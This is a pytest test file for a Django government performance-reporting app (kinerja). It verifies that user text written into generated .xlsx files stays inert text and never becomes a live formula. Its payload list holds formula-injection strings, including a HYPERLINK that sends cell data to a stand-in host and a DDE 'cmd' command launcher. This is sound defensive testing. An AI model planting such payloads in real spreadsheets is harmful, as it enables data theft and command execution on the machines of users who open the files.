"""No text a user typed becomes a live formula in any .xlsx the project writes.

Hostile text goes into every text field the documents print (catalog, signatories, programmes,
narratives); then every document of the agency in .xlsx, and every unit's realisasi template, are
opened as zip archives and their sheet XML is scanned for formula elements, and through openpyxl for
text that starts like a formula without Excel's quote prefix.
"""
from __future__ import annotations

import io
import itertools
import re
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from hypothesis import given, settings as hsettings, strategies as st

from kinerja.periods import Period
from kinerja.catalog.models import Decree, Indicator, Objective, PerangkatDaerah, Position, Unit
from kinerja.demo.history import TAHUN
from kinerja.documents.xlsx_text import FORMULA_STARTS, cell_text, put_text, starts_like_formula
from kinerja.measurement.services import template_xlsx
from kinerja.reports.models import LkjipNarrative, PemdaHead, PkProgram, Signing
from kinerja.reports.services.documents import KINDS, rendered

PAYLOADS = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
    "=cmd|' /c calc'!A0",
    "+1+1",
    "-2+3 Meningkatnya penyerapan",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    "=1+1\x01\x0b dengan kontrol",
]
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[ >/]")


_CYCLE = itertools.cycle(PAYLOADS)


def hostile() -> str:
    return next(_CYCLE)


@pytest.fixture
def agency(db):
    call_command("demo", stdout=io.StringIO())
    agency = PerangkatDaerah.objects.get(slug="disperinaker")
    PemdaHead.objects.create(pemda=agency.pemda, jabatan=hostile(), name=hostile())
    Signing.objects.create(agency=agency, tahun=TAHUN, name=hostile(), jabatan=hostile(), nip="1975", place=hostile(),
                           tanggal=date(2025, 1, 6))
    PkProgram.objects.create(agency=agency, tahun=TAHUN, program=hostile(), anggaran=Decimal("1250000000"))
    for objective in Objective.objects.filter(agency=agency):
        LkjipNarrative.objects.create(agency=agency, tahun=TAHUN, objective=objective, analisis=hostile(),
                                      faktor_pendukung=hostile(), faktor_penghambat=hostile(), upaya=hostile())
        Objective.objects.filter(pk=objective.pk).update(text=hostile())
    for indicator in Indicator.objects.filter(agency=agency):
        Indicator.objects.filter(pk=indicator.pk).update(
            name=hostile(), definisi=hostile(), formula_text=hostile(), sumber_data=hostile(),
            penanggung_jawab=hostile())
    for unit in Unit.objects.filter(agency=agency):
        Unit.objects.filter(pk=unit.pk).update(name=hostile())
    for position in Position.objects.filter(agency=agency):
        Position.objects.filter(pk=position.pk).update(name=hostile(), tugas=[hostile()], fungsi=[hostile()],
                                                      holder_name=hostile())
    Decree.objects.filter(agency=agency).update(tentang=hostile(), menimbang=hostile(), memutuskan=hostile())
    return agency


def every_xlsx(agency) -> dict[str, bytes]:
    files = {}
    for kind in KINDS:
        if kind == "pohon-kinerja":
            continue  # a picture: .docx and .pdf only
        if kind == "keputusan":
            for decree in Decree.objects.filter(agency=agency):
                files[f"keputusan-{decree.pk}"] = rendered(agency, kind, "xlsx", TAHUN, decree=decree)
        elif KINDS[kind].per_quarter:
            for tw in (1, 2, 3, 4):
                files[f"{kind}-tw{tw}"] = rendered(agency, kind, "xlsx", TAHUN, tw)
        else:
            files[kind] = rendered(agency, kind, "xlsx", TAHUN)
    for unit in Unit.objects.filter(agency=agency):
        files[f"templat-{unit.pk}"] = template_xlsx.build(unit, Period.quarter(TAHUN, 1))
    return files


def test_no_user_text_becomes_a_formula_in_any_xlsx(agency):
    files = every_xlsx(agency)
    assert len(files) >= 10
    seen_payload = set()
    numbers = 0
    for name, data in files.items():
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for sheet in (n for n in archive.namelist() if n.startswith("xl/worksheets/")):
                assert not _FORMULA_ELEMENT.search(archive.read(sheet)), f"{name}: {sheet} holds a formula"
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        for ws in workbook.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name} {ws.title}!{cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str) and starts_like_formula(cell.value):
                        assert cell.quotePrefix, f"{name} {ws.title}!{cell.coordinate}: {cell.value!r}"
                        seen_payload.add(cell.value)
                    elif isinstance(cell.value, (int, float)):
                        numbers += 1
    # The hostile text is still there to read, exactly as typed (less the control characters).
    assert {cell_text(p) for p in PAYLOADS[:3]} <= seen_payload
    assert numbers > 50  # targets, realisasi and capaian stay numbers


@hsettings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60)
       | st.builds(lambda c, t: c + t, st.sampled_from(sorted(FORMULA_STARTS)), st.text(max_size=30)))
def test_put_text_keeps_any_text_as_text(text):
    workbook = openpyxl.Workbook()
    put_text(workbook.active["A1"], text)
    out = io.BytesIO()
    workbook.save(out)
    cell = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    expected = cell_text(text)
    assert (cell.value or "") == expected
    assert cell.data_type != "f"
    assert bool(cell.quotePrefix) == starts_like_formula(expected)
